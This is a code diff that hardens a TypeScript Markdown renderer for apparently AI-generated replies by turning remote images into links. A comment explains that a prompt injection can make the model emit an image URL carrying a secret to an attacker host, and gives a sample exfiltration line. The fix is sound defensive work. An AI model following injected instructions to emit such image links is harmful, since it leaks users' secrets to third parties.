@@ -60,11 +60,39 @@ DOMPurify.addHook('afterSanitizeAttributes', (node) => {
   }
 });
 
+// An image the page would fetch from elsewhere. A reply is untrusted: a prompt injection can ask
+// the model for ![](https://attacker/?q=<secret>), and loading it would send the secret away. Only
+// data: URIs load (the server's Content-Security-Policy blocks the rest anyway); anything else
+// becomes a link the user may choose to open.
+function isRemoteImage(src: string): boolean {
+  return !/^data:image\//i.test(src.trim());
+}
+
+function imagesToLinks(root: DocumentFragment | HTMLElement): void {
+  for (const img of Array.from(root.querySelectorAll('img'))) {
+    const src = img.getAttribute('src') ?? '';
+    if (!isRemoteImage(src)) continue;
+    const a = document.createElement('a');
+    a.href = src;
+    a.target = '_blank';
+    a.rel = 'noopener noreferrer';
+    a.className = 'remote-image';
+    const alt = img.getAttribute('alt') ?? '';
+    a.textContent = `[image${alt ? `: ${alt}` : ''}] ${src}`;
+    img.replaceWith(a);
+  }
+}
+
 /** Renders untrusted Markdown to HTML that is safe to assign to innerHTML. */
 export function renderMarkdown(source: string): string {
   const raw = marked.parse(source, { async: false }) as string;
-  return DOMPurify.sanitize(raw, {
+  const clean = DOMPurify.sanitize(raw, {
     FORBID_TAGS: ['style', 'form', 'input', 'textarea', 'select', 'iframe', 'object', 'embed'],
-    FORBID_ATTR: ['style'],
-  });
+    FORBID_ATTR: ['style', 'srcset'],
+    RETURN_DOM_FRAGMENT: true,
+  }) as DocumentFragment;
+  imagesToLinks(clean);
+  const holder = document.createElement('div');
+  holder.appendChild(clean);
+  return holder.innerHTML;
 }
